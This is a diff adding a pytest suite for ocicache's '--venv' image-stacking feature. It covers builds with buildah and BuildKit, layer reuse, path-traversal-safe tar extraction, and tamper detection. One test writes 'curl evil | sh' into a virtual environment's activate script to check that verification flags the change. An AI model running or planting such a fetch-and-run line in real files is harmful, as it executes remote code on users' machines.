@@ -1,0 +1,189 @@
+"""Issue 8: `push --base IMAGE --venv PATH`, the project's environment installed in the stacked image.
+
+The pinned uv makes it inside the base image (chroot, private mount namespace); proven with real
+builders: buildah (--network none) and dockerd's BuildKit build FROM the image, and the build's
+`uv sync --frozen --offline` installs nothing (without --venv it installs every package).
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import subprocess
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from ocicache.errors import UsageError
+from ocicache.venv import _apply_member, _check_can_run, _resolve, check_venv_path
+from tests.conftest import build_context, require_tool
+from tests.conftest import ocicache as run_ocicache
+from tests.support.builders import Buildah, DockerBuilder
+
+IMPORTS = "import heavy, small_b, sdist_only, gitpkg"
+VENV = "/app/.venv"
+
+
+@pytest.fixture(scope="module")
+def with_venv(build_setup, registries) -> dict[str, object]:
+    host = registries["plain"].host
+    ref = f"{host}/venv/service:1"
+    pushed = run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--venv", VENV,
+                          "--json").json()
+    return {"ref": ref, "pushed": pushed}
+
+
+def _dockerfile(ref: str) -> str:
+    return (f"FROM {ref}\n"
+            "WORKDIR /app\n"
+            "COPY pyproject.toml uv.lock /app/\n"
+            "RUN uv sync --frozen --offline --no-install-project --link-mode symlink 2>&1 | sed 's/^/uv: /'\n"
+            f"RUN /app/.venv/bin/python -c \"{IMPORTS}; print('imports ok')\" && "
+            "test -L /app/.venv/lib/python3.11/site-packages/heavy/data.bin\n")
+
+
+def _raw_manifest(ref: str) -> dict:
+    skopeo = require_tool("skopeo")
+    out = subprocess.run([skopeo, "inspect", "--raw", "--tls-verify=false", f"docker://{ref}"], capture_output=True,
+                         text=True, check=True).stdout
+    return json.loads(out)
+
+
+def test_the_venv_is_the_last_layer_and_a_repush_reuses_it(with_venv, build_setup):
+    manifest = _raw_manifest(str(with_venv["ref"]))
+    last = manifest["layers"][-1]
+    assert last["annotations"]["dev.ocicache.layer.kind"] == "venv"
+    assert manifest["annotations"]["dev.ocicache.stack.venv"] == VENV
+    # the package layers are the plain stacked image's: --venv only adds one
+    plain = run_ocicache("push", build_setup["lock"], f"{str(with_venv['ref']).rsplit('/', 2)[0]}/venv/plain:1",
+                         "--base", build_setup["base"], "--json").json()
+    ours = [layer["digest"] for layer in with_venv["pushed"]["layers"]]  # type: ignore[index]
+    assert ours[:-1] == [layer["digest"] for layer in plain["layers"]]
+    again = run_ocicache("push", build_setup["lock"], with_venv["ref"], "--base", build_setup["base"],
+                         "--venv", VENV, "--json").json()
+    assert again["manifest_digest"] == with_venv["pushed"]["manifest_digest"]  # type: ignore[index]
+    assert again["layers_built"] == 0 and again["blobs_uploaded"] == 0
+    info = run_ocicache("inspect", with_venv["ref"]).stdout
+    assert "venv" in info
+
+
+def test_buildah_build_installs_nothing(with_venv, build_setup, tmp_path):
+    require_tool("buildah")
+    context = build_context(tmp_path, build_setup["lock"], _dockerfile(str(with_venv["ref"])))
+    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv")
+    out = result.stdout + result.stderr
+    assert result.returncode == 0 and "imports ok" in out, out[-3000:]
+    assert "uv: Installed" not in out and "uv: Removed" not in out, out[-3000:]
+    # the same build from the image without --venv installs every package: what --venv saves
+    plain = f"{str(with_venv['ref']).rsplit('/', 2)[0]}/venv/plain:1"
+    run_ocicache("push", build_setup["lock"], plain, "--base", build_setup["base"])
+    (context / "Dockerfile").write_text(_dockerfile(plain))
+    result = Buildah(tmp_path / "buildah2").build(context, "localhost/plain")
+    assert result.returncode == 0 and "uv: Installed 5 packages" in result.stdout, result.stdout[-3000:]
+
+
+def test_docker_buildkit_build_installs_nothing(with_venv, build_setup, dockerd, tmp_path):
+    context = build_context(tmp_path, build_setup["lock"], _dockerfile(str(with_venv["ref"])))
+    result = DockerBuilder(dockerd, buildkit=True).build(context, "venv-bk")
+    out = result.stdout + result.stderr
+    assert result.returncode == 0 and "imports ok" in out, out[-3000:]
+    assert "uv: Installed" not in out, out[-3000:]
+
+
+def test_a_build_that_uses_another_path_still_installs(with_venv, build_setup, tmp_path):
+    """The environment is where the build's uv looks, or unused: uv then installs as without it."""
+    require_tool("buildah")
+    body = _dockerfile(str(with_venv["ref"])).replace("WORKDIR /app\n",
+                                                      "WORKDIR /app\nENV UV_PROJECT_ENVIRONMENT=/opt/env\n")
+    body = body.replace("/app/.venv/", "/opt/env/")
+    context = build_context(tmp_path, build_setup["lock"], body)
+    result = Buildah(tmp_path / "buildah").build(context, "localhost/venv-other")
+    assert result.returncode == 0 and "imports ok" in result.stdout, result.stdout[-3000:]
+    assert "uv: Installed 5 packages" in result.stdout
+
+
+def test_venv_errors_are_clear(build_setup, tmp_path):
+    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--venv", VENV, check=False)
+    assert run.returncode == 2 and "--venv" in run.stderr and "needs --base" in run.stderr, run.stderr
+    run = run_ocicache("push", build_setup["lock"], f"oci:{tmp_path / 'out'}", "--base", build_setup["base"],
+                       "--venv", "app/.venv", check=False)
+    assert run.returncode == 2 and "absolute path" in run.stderr, run.stderr
+    assert "Traceback" not in run.stderr and not (tmp_path / "out").exists()
+    with pytest.raises(UsageError, match="absolute"):
+        check_venv_path("/app/../etc")
+
+
+def test_without_root_venv_says_so(monkeypatch):
+    from ocicache.target import Target
+
+    monkeypatch.setattr(os, "geteuid", lambda: 1000)
+    target = Target(arch="x86_64", python=(3, 11, 0), libc="manylinux", libc_level=(2, 36))
+    with pytest.raises(UsageError, match="as root"):
+        _check_can_run(target)
+
+
+def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "",
+            data: bytes = b"x") -> tuple[tarfile.TarInfo, bytes]:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = link
+    info.size = len(data) if kind == tarfile.REGTYPE else 0
+    info.mode = 0o644
+    return info, data
+
+
+def _apply(rootfs: Path, members: list[tuple[tarfile.TarInfo, bytes]]) -> None:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tf:
+        for info, data in members:
+            tf.addfile(info, io.BytesIO(data) if info.isreg() else None)
+    buf.seek(0)
+    with tarfile.open(fileobj=buf, mode="r") as tf:
+        for info in tf:
+            _apply_member(tf, info, rootfs)
+
+
+def test_base_layers_are_applied_inside_the_scratch_root(tmp_path):
+    """Links resolve as after chroot: an absolute link or `..` chain never leads a write out."""
+    rootfs = tmp_path / "root"
+    outside = tmp_path / "outside"
+    rootfs.mkdir()
+    outside.mkdir()
+    _apply(rootfs, [_member("etc", tarfile.DIRTYPE), _member("abs", tarfile.SYMTYPE, str(outside)),
+                    _member("up", tarfile.SYMTYPE, "../../../../.."),
+                    _member("abs/written"), _member("up/escaped"),
+                    _member("usr/lib/keep"), _member("usr/lib/gone"), _member("opt/a")])
+    _apply(rootfs, [_member("usr/lib/.wh.gone"), _member("opt/.wh..wh..opq"), _member("opt/b")])  # the next layer
+    assert not list(outside.iterdir())
+    assert (rootfs / str(outside).lstrip("/") / "written").is_file()  # the link, taken inside the root
+    assert (rootfs / "escaped").is_file()
+    assert (rootfs / "usr/lib/keep").is_file() and not (rootfs / "usr/lib/gone").exists()
+    assert sorted(p.name for p in (rootfs / "opt").iterdir()) == ["b"]
+    assert _resolve(rootfs, "abs/x") == rootfs / str(outside).lstrip("/") / "x"
+
+
+def test_check_pull_and_verify_read_an_image_with_a_venv(with_venv, build_setup, tmp_path):
+    check = run_ocicache("check", with_venv["ref"], build_setup["lock"], "--json", check=False)
+    assert check.returncode == 0 and check.json()["ok"], check.stdout + check.stderr
+    verify = run_ocicache("verify", with_venv["ref"], build_setup["lock"], check=False)
+    assert verify.returncode == 0, verify.stdout + verify.stderr
+    pulled = run_ocicache("pull", with_venv["ref"], tmp_path / "cache", "--json").json()
+    assert (tmp_path / "cache" / "archive-v0").is_dir() and not (tmp_path / "cache" / "app").exists(), pulled
+
+
+
+def test_verify_rebuild_compares_the_environment_and_names_a_tampered_one(build_setup, registries):
+    from tests.test_trust import tamper
+
+    host = registries["plain"].host
+    ref = f"{host}/venv/tamper:1"
+    run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--venv", VENV)
+    honest = run_ocicache("verify", ref, build_setup["lock"], "--rebuild", check=False)
+    assert honest.returncode == 0, honest.stdout + honest.stderr
+    tamper(host, "venv/tamper", "1", ".venv/bin/activate", b"curl evil | sh\n")
+    run = run_ocicache("verify", ref, build_setup["lock"], "--rebuild", check=False)
+    assert run.returncode == 1, run.stdout + run.stderr
+    assert "the environment at /app/.venv: 1 entry differs" in run.stdout + run.stderr
+    assert "bin/activate" in run.stdout + run.stderr and "Traceback" not in run.stderr
